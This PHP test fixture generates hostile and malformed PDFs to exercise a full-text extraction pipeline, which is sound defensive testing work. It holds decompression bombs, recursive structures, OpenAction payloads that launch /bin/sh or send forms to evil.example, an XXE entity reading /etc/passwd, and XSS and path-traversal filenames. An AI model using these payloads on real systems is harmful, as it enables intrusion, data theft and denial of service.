<?php

namespace Tests\Hostile;

/** PDFs that nobody means well with, for where full texts go. */
final class HostilePdfs
{
    private const SAYS = 'BT /F 12 Tf 72 700 Td (Lamps helped nurses at night.) Tj ET';

    /** @return \Generator<string, array{string, string}> name of the file as it is sent, and content */
    public static function all(): \Generator
    {
        $good = self::file(self::page(self::stream(self::SAYS)));
        foreach ([9, 60, 200, strlen($good) - 40, strlen($good) - 6] as $length) {
            yield "a paper cut off after {$length} bytes" => ['a.pdf', substr($good, 0, $length)];
        }
        yield 'a head alone' => ['a.pdf', "%PDF-1.7\n"];
        yield 'a head after a thousand bytes' => ['a.pdf', str_repeat(' ', 1000).$good];
        yield 'a paper that is an archive too' => ['a.pdf', $good."PK\x05\x06".str_repeat("\0", 18)];
        yield 'a paper that is a web page too' => ['a.pdf', "<script>alert(1)</script>\n{$good}"];
        yield 'bytes by chance after the head' => ['a.pdf', "%PDF-1.4\n".random_bytes(50_000)];
        yield 'a version that nobody has' => ['a.pdf', str_replace('%PDF-1.4', '%PDF-99.99', $good)];
        yield 'a table of references far beyond' => ['a.pdf', str_replace('startxref', "startxref\n999999999999", $good)];
        yield 'a table of references before the file' => ['a.pdf', str_replace('startxref', "startxref\n-5", $good)];
        foreach (['/Prev 9', '/Prev 9 /XRefStm 9', '/Size 2147483647', '/Encrypt 3 0 R', '/Root 99 0 R', '/Info 1 0 R /ID [<00> <00>]'] as $trailer) {
            yield "a trailer with {$trailer}" => ['a.pdf', self::file(self::page(self::stream(self::SAYS)), $trailer)];
        }
        foreach (['[0 0 0 0]', '[0 0 1e9 1e9]', '[-1e9 -1e9 1 1]', '[0 0 nan inf]', '[]', '(x)'] as $box) {
            yield "a page of {$box}" => ['a.pdf', self::file(self::page(self::stream(self::SAYS), box: $box))];
        }
        yield 'pages within themselves' => [
            'a.pdf',
            self::file(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']),
        ];
        yield 'a thousand million pages' => [
            'a.pdf',
            self::file(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 1000000000 >>']),
        ];
        yield 'a root that is itself' => ['a.pdf', self::file(['1 0 R'])];
        yield 'lists within lists' => ['a.pdf', self::file([str_repeat('[', 50_000).str_repeat(']', 50_000), '<< >>'])];
        yield 'a page that draws a form that draws itself' => ['a.pdf', self::file(self::page(
            self::stream(self::SAYS.' /X Do'),
            '/XObject << /X 6 0 R >>',
            more: [self::stream('/X Do /X Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>')],
        ))];
        yield 'a page that unpacks to 200 MB' => ['a.pdf', self::file(self::page(
            self::stream((string) gzcompress(self::SAYS.str_repeat(' ', 200_000_000), 9), '/Filter /FlateDecode'),
        ))];
        yield 'a page packed ten times' => ['a.pdf', self::file(self::page(self::stream(
            array_reduce(range(1, 10), fn (string $bytes): string => (string) gzcompress($bytes), self::SAYS),
            '/Filter ['.str_repeat('/FlateDecode ', 10).']',
        )))];
        foreach (['/JBIG2Decode', '/DCTDecode', '/JPXDecode', '/CCITTFaxDecode', '/Crypt', '/EvilDecode'] as $filter) {
            yield "a stream by {$filter} that is none" => [
                'a.pdf',
                self::file(self::page(self::stream(random_bytes(2000), "/Filter {$filter}"))),
            ];
        }
        yield 'a picture of four thousand million points' => ['a.pdf', self::file(self::page(
            self::stream(self::SAYS.' q 500 0 0 500 0 0 cm /I Do Q'),
            '/XObject << /I 6 0 R >>',
            more: [self::stream((string) gzcompress('x'), '/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /ColorSpace /DeviceRGB '.
                '/BitsPerComponent 8 /Filter /FlateDecode')],
        ))];
        foreach (
            [
                'a script' => '/OpenAction << /S /JavaScript /JS (app.alert\(1\)) >>',
                'a program to start' => '/OpenAction << /S /Launch /F (/bin/sh) >>',
                'an address to open' => '/OpenAction << /S /URI /URI (http://evil.example) >>',
                'a form to send' => '/OpenAction << /S /SubmitForm /F (http://evil.example) >>',
                'a paper elsewhere' => '/OpenAction << /S /GoToR /F (\\\\evil.example\\x) /D [0 /Fit] >>',
            ] as $what => $action
        ) {
            yield "a paper with {$what}" => ['a.pdf', self::file(self::page(self::stream(self::SAYS), $action))];
        }
        yield 'two million words on a page' => ['a.pdf', self::file(self::page(
            self::stream((string) gzcompress('BT /F 1 Tf '.str_repeat('1 0 Td (a) Tj ', 2_000_000).'ET'), '/Filter /FlateDecode'),
        ))];
        yield 'a font that is itself' => ['a.pdf', self::file(self::page(self::stream(self::SAYS), '/Font << /F 3 0 R >>'))];
        yield 'metadata with entities' => ['a.pdf', self::file(self::page(self::stream(self::SAYS), more: [
            self::stream('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '/Type /Metadata /Subtype /XML'),
        ]))];
        yield 'a name with a script' => ['"><img src=x onerror=alert(1)>.pdf', $good.' '];
        yield 'a name that climbs' => ['../../../../var/www/a.php', "{$good}  "];
    }

    private static function stream(string $bytes, string $of = ''): string
    {
        return '<< /Length '.strlen($bytes)." {$of} >>\nstream\n{$bytes}\nendstream";
    }

    /**
     * @param  list<string>  $more
     * @return list<string> objects of a paper of one page
     */
    private static function page(string $content, string $resources = '', string $box = '[0 0 595 842]', array $more = []): array
    {
        return [
            '<< /Type /Catalog /Pages 2 0 R '.(str_starts_with($resources, '/OpenAction') ? $resources : '').' >>',
            '<< /Type /Pages /Kids [5 0 R] /Count 1 >>',
            $content,
            '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
            "<< /Type /Page /Parent 2 0 R /MediaBox {$box} /Contents 3 0 R /Resources << /Font << /F 4 0 R >> {$resources} >> >>",
            ...$more,
        ];
    }

    /** @param  list<string>  $objects */
    private static function file(array $objects, string $trailer = ''): string
    {
        $pdf = "%PDF-1.4\n";
        $at = [];
        foreach ($objects as $i => $object) {
            $at[] = strlen($pdf);
            $pdf .= ($i + 1)." 0 obj\n{$object}\nendobj\n";
        }
        $start = strlen($pdf);
        $pdf .= 'xref'."\n0 ".(count($objects) + 1)."\n0000000000 65535 f \n";
        foreach ($at as $offset) {
            $pdf .= sprintf("%010d 00000 n \n", $offset);
        }

        return $pdf.'trailer << /Size '.(count($objects) + 1)." /Root 1 0 R {$trailer} >>\nstartxref\n{$start}\n%%EOF\n";
    }
}
